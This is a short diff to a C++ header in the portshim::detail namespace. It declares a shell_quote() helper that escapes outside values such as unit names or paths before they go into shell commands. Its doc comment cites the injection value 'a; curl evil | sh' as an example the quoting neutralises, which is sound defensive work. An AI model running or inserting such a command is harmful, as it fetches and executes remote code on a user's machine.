@@ -6,6 +6,7 @@
 
 #include <cstdint>
 #include <string>
+#include <string_view>
 #include <vector>
 
 namespace portshim::detail {
@@ -36,5 +37,13 @@ std::string user_of(const Observation& obs, std::int64_t uid);
 
 /** "sudo " unless this process runs as root: the prefix of a confirm command. */
 std::string sudo(const Observation& obs);
+
+/**
+ * `s` as one word of a POSIX shell command line: as it is when it holds only
+ * characters no shell treats specially, else in single quotes, each ' as '\''.
+ * Every outside value (a unit or cgroup name, a path) in a fix or confirm
+ * command goes through it: "a; curl evil | sh" stays one argument.
+ */
+std::string shell_quote(std::string_view s);
 
 } // namespace portshim::detail
